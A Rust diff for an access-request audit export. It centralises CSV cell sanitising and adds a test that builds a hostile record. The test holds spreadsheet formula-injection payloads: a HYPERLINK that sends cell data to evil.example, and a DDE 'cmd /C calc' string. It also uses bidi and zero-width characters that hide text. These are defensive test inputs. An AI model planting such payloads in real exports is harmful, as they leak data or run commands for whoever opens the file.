@@ -3,6 +3,7 @@
 use crate::domain::{RequestId, Status, parse_time};
 use crate::error::{Error, Result};
 use crate::render::Format;
+use crate::render::sanitize::csv_cell;
 use crate::render::tables;
 use crate::workflow::activity;
 use crate::workflow::audit::{self, Filter, Record};
@@ -116,15 +117,6 @@ pub enum Sub {
     Verify,
 }
 
-/// Spreadsheets run cells that start like a formula: make them text.
-fn cell(s: &str) -> String {
-    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
-        format!("'{s}")
-    } else {
-        s.to_string()
-    }
-}
-
 const CSV_HEADER: [&str; 19] = [
     "id",
     "status",
@@ -187,7 +179,7 @@ fn csv_row(r: &Record) -> Vec<String> {
         decisions.join("; "),
     ]
     .iter()
-    .map(|s| cell(s))
+    .map(|s| csv_cell(s))
     .collect()
 }
 
@@ -416,7 +408,7 @@ async fn activity(ctx: &Ctx, args: &Args) -> Result<()> {
                         a.caller.clone(),
                     ]
                     .iter()
-                    .map(|s| cell(s)),
+                    .map(|s| csv_cell(s)),
                 )
                 .map_err(io)?;
             }
@@ -429,4 +421,59 @@ async fn activity(ctx: &Ctx, args: &Args) -> Result<()> {
         AuditFormat::Table => ctx.out.line(&tables::activity(&found))?,
     }
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A record as a hostile requester and approver would fill it.
+    fn hostile() -> Record {
+        let at: jiff::Timestamp = "2026-01-01T00:00:00Z".parse().unwrap();
+        Record {
+            id: RequestId::from_entropy(7),
+            status: Status::Active,
+            mode: crate::domain::Mode::Required,
+            break_glass: false,
+            principal: "user:mallory\u{202E}nimda".into(),
+            requester: "user:mal\u{200B}lory".into(),
+            account_id: "111111111111".into(),
+            permission_set: "Admin".into(),
+            reason: "=HYPERLINK(\"https://evil.example/?\"&A1,\"fix\")".into(),
+            ticket: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
+            rules: vec!["r".into()],
+            policy_version: "v1".into(),
+            created_at: at,
+            start_at: None,
+            granted_at: None,
+            end_at: None,
+            ended_at: None,
+            ended_by: Some("-2+3".into()),
+            prior_access: None,
+            decisions: vec![crate::workflow::audit::Decision {
+                kind: "approved",
+                by: "user:bob".into(),
+                at,
+                comment: Some("ok\u{2066}\u{E0041}\u{FE0F}\u{3164}".into()),
+            }],
+        }
+    }
+
+    #[test]
+    fn csv_rows_are_neither_formulas_nor_hiding_places() {
+        let row = csv_row(&hostile());
+        assert_eq!(row.len(), CSV_HEADER.len());
+        let col = |name: &str| &row[CSV_HEADER.iter().position(|h| *h == name).unwrap()];
+        assert!(col("reason").starts_with("'="), "{}", col("reason"));
+        assert!(col("ticket").starts_with("'@"), "{}", col("ticket"));
+        assert!(col("ended_by").starts_with("'-"), "{}", col("ended_by"));
+        assert_eq!(col("principal"), "user:mallory\\u{202e}nimda");
+        assert_eq!(col("requester"), "user:mal\\u{200b}lory");
+        for cell in &row {
+            assert!(
+                !cell.chars().any(crate::render::sanitize::is_dangerous),
+                "{cell:?}"
+            );
+        }
+    }
 }
